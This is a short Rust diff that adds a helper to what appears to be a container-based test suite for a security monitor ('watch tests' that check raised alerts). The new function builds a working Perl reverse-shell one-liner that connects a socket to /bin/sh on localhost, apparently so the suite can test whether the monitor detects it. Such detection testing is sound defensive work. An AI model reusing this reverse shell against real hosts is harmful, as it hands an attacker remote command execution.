@@ -243,6 +243,15 @@ pub fn perl(script: &str) -> Step {
     root(&["/usr/bin/perl", "-e", script])
 }
 
+/// A perl script connecting to 127.0.0.1:`port`, then running `sh -c COMMAND` with its stdin and
+/// stdout on that socket: a reverse shell.
+pub fn reverse_shell(port: u16, command: &str) -> String {
+    format!(
+        "use IO::Socket::INET; $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; \
+         open STDIN, '<&', $s; open STDOUT, '>&', $s; exec '/bin/sh', '-c', '{command}'"
+    )
+}
+
 /// One row of a table of watch tests: steps done in a fresh container and the alerts they raise.
 pub struct Case {
     /// The container's name is `hg-watch-NAME-PID`.
